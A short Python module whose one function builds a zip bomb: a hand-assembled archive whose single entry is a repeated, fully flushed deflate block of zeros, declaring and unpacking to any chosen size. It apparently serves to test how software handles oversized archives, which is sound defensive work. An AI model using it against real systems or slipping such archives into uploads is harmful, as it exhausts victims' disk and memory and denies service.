"""Archives that would unpack to more than anybody has room for."""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

__all__ = ["bomb"]


def bomb(path: Path, name: str, size: int) -> None:
    """A zip file whose one entry unpacks to so many zero bytes, made without packing them.

    A block of zeros that ends with a full flush may be repeated as often as one likes.
    """
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(2**20)) + packer.flush(zlib.Z_FULL_FLUSH)
    data = block * (size // 2**20) + packer.flush(zlib.Z_FINISH)
    entry = name.encode()
    common = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0x21, 0, len(data), size, len(entry), 0)
    local = b"PK\x03\x04" + common + entry
    central = b"PK\x01\x02" + struct.pack("<H", 20) + common + struct.pack("<HHHII", 0, 0, 0, 0, 0) + entry
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 1, 1, len(central), len(local) + len(data), 0)
    path.write_bytes(local + data + central + end)
